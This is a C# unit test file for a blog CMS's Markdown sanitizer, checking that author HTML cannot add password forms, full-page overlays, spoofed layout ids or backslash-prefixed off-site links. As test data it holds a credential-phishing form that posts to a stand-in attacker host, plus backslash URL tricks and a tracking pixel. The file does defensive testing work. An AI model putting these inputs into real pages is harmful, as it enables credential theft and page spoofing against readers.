using BlogSite.Cms.Content.Markdown;

namespace BlogSite.UnitTests.Content.Markdown;

/// What an author's HTML may not do on a reader's page: ask for passwords, cover the page, take the layout's ids, or
/// link off-site through a backslash.
public sealed class SanitizerTests : IDisposable
{
    private readonly MarkdownRenderer renderer = new();

    public void Dispose() => renderer.Dispose();

    [Fact]
    public void FormsAndTheirControlsAreDropped()
    {
        var html = renderer.ToHtml("""<form action="https://evil.example/steal"><label>Password <input type="password" name="p"></label><button>Sign in</button></form>""");

        Assert.DoesNotContain("<form", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<input", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<button", html, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", html, StringComparison.Ordinal);
    }

    [Fact]
    public void InlineStylesAreDroppedSinceReadersPagesAllowNone()
    {
        var html = renderer.ToHtml("""<div style="position: fixed; inset: 0; z-index: 9999; color: red">Site closed</div>""" + "\n\nText{style=\"color: red\"}\n");

        Assert.DoesNotContain("style", html, StringComparison.Ordinal);
        Assert.Contains("Site closed", html, StringComparison.Ordinal);
    }

    [Fact]
    public void AuthorIdsArePrefixedAndInPageLinksFollow()
    {
        var html = renderer.ToHtml("""<div id="site-header">Fake</div>""" + "\n\n[jump](#site-header)\n\n## Sanctions\n");

        Assert.Contains("id=\"post-site-header\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"#post-site-header\"", html, StringComparison.Ordinal);
        Assert.Contains("id=\"post-sanctions\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("id=\"site-header\"", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""[x](\evil.example/x)""")]
    [InlineData("""<a href="\evil.example/x">x</a>""")]
    [InlineData("""<a href="/\evil.example/x">x</a>""")]
    [InlineData("""<img src="\evil.example/pixel.png">""")]
    public void NoAddressStartsWithABackslash(string markdown) =>
        // Dropped, or (Markdig's own links) percent-encoded into a path on this site.
        Assert.DoesNotMatch("""(href|src)="/?\\""", renderer.ToHtml(markdown));

    [Fact]
    public void OrdinaryLinksStay()
    {
        var html = renderer.ToHtml("[site](/blog/post) [out](https://example.org/a) [mail](mailto:a@example.org)");

        Assert.Contains("href=\"/blog/post\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://example.org/a\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"mailto:a@example.org\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void TableAlignmentBecomesAClassSinceReadersPagesAllowNoInlineStyle()
    {
        var html = renderer.ToHtml("| name | count |\n| :--- | ---: |\n| a | 1 |");

        Assert.Contains("class=\"align-right\"", html, StringComparison.Ordinal);
        Assert.Contains("class=\"align-left\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("style", html, StringComparison.Ordinal);
    }
}
